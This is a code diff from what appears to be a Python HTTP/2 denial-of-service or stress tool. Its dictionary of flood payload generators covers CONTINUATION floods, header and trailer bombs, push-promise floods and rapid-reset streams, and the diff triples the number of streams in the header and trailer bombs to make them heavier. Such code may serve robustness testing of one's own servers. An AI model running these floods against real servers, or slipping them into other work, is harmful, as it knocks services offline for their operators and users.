@@ -45,10 +45,10 @@ FLOODS = {
     "goaway": lambda: frame(GOAWAY, payload=bytes(8)) * COUNT,
     "continuation": lambda: headers(1, BLOCK, 0) + frame(CONTINUATION, 0, 1, field("x", "y" * 1000)) * COUNT,
     "empty continuation": lambda: headers(1, BLOCK, 0) + frame(CONTINUATION, 0, 1) * COUNT,
-    "header bombs": lambda: streams(bomb, 100),
+    "header bombs": lambda: streams(bomb, 300),
     "trailer bombs": lambda: bomb(1) + b"".join(
         headers(i, BLOCK) + frame(HEADERS, END_STREAM, i) + frame(CONTINUATION, END_HEADERS, i, b"\xbe" * 250_000)
-        for i in range(3, 203, 2)),
+        for i in range(3, 603, 2)),
     "push promises": lambda: frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + BLOCK) * COUNT,
     "rapid reset": lambda: streams(lambda i: headers(i, BLOCK) + reset_stream(i)),
     "rapid reset of requests": lambda: streams(lambda i: headers(i, BLOCK) + data(i, REQUEST, END_STREAM) + reset_stream(i)),
